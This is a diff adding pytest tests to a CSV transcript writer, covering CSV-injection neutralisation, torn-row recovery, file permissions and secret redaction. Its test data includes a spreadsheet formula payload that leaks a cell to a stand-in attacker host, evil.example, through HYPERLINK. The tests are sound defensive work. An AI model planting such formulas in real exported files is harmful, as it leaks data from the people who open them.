@@ -1,5 +1,6 @@
 """livecall-csv: rows read back with the csv module, from real watches of the simulator."""
 
+import argparse
 import csv
 import json
 import os
@@ -224,3 +225,72 @@ def test_sigkill_mid_call_leaves_whole_rows_and_the_next_run_appends(tmp_path):
         watch(sim, writer)
     texts = [row[COLUMNS.index("text")] for row in read_rows(path)[1:]]
     assert texts == said + [f"flood message {n}" for n in range(1, 11)], "appended, no second header"
+
+
+def _write(path, texts, **options):
+    call = livecall.Call(provider="hiya", id="call_1")
+    with CsvWriter(str(path), **options) as writer:
+        for text in texts:
+            writer.livecall_transcript(call=call, transcript=livecall.Transcript(text, "other"))
+    return [row[COLUMNS.index("text")] for row in read_rows(path)[1:]]
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\r=1"]
+
+
+def test_cells_a_spreadsheet_would_run_are_neutralised(tmp_path):
+    """OWASP's advice for CSV injection: a leading ' makes the cell text."""
+    texts = _write(tmp_path / "calls.csv", [*FORMULAS, "plain words", "a = b"])
+    assert texts == ["'" + text for text in FORMULAS] + ["plain words", "a = b"]
+
+
+def test_keep_formulas_writes_the_exact_words_for_programs(tmp_path):
+    assert _write(tmp_path / "calls.csv", FORMULAS, keep_formulas=True) == FORMULAS
+
+
+def test_the_command_line_option_keeps_formulas():
+    parser = argparse.ArgumentParser()
+    livecall_csv.livecall_addoption(parser)
+    assert parser.parse_args(["--csv-keep-formulas"]).csv_keep_formulas
+    assert not parser.parse_args([]).csv_keep_formulas
+
+
+@pytest.mark.parametrize(
+    "torn",
+    [
+        b'2025-01-01T00:00:00+00:00,hiya,call_0,other,"cut off, mid quo',
+        b"2025-01-01T00:00:00+00:00,hiya,call_0,oth",
+        '2025-01-01T00:00:00+00:00,hiya,call_0,other,"caf\u00e9 and a\r\nline'.encode()[:-6],
+    ],
+    ids=["inside quotes", "mid field", "mid character, after a line break inside quotes"],
+)
+def test_a_torn_last_row_is_removed_before_appending(tmp_path, torn):
+    """A crash or a full disk cut the last row; left there, it would swallow the rows appended next."""
+    path = tmp_path / "calls.csv"
+    before = _write(path, ["one", 'two, "quoted"\r\nover two lines'])
+    with open(path, "ab") as f:
+        f.write(torn)
+    after = _write(path, ["three", "four"])
+    assert after == before + ["three", "four"]
+    assert all(len(row) == len(COLUMNS) for row in read_rows(path))
+
+
+def test_a_new_file_is_private_and_an_existing_one_keeps_its_mode(tmp_path):
+    """The rows are transcripts, personal data."""
+    new, kept = tmp_path / "new.csv", tmp_path / "kept.csv"
+    kept.write_text("")
+    kept.chmod(0o644)
+    _write(new, ["hello"])
+    _write(kept, ["hello"])
+    assert new.stat().st_mode & 0o777 == 0o600
+    assert kept.stat().st_mode & 0o777 == 0o644
+
+
+def test_a_directory_is_a_clear_error(tmp_path):
+    with pytest.raises(livecall.ConfigurationError, match="it is a directory"):
+        CsvWriter(str(tmp_path))
+
+
+def test_secrets_are_blanked_in_cells(tmp_path):
+    livecall.Credential("csv-SECRET-token-0042")
+    assert _write(tmp_path / "calls.csv", ["it is csv-SECRET-token-0042"]) == ["it is ***"]
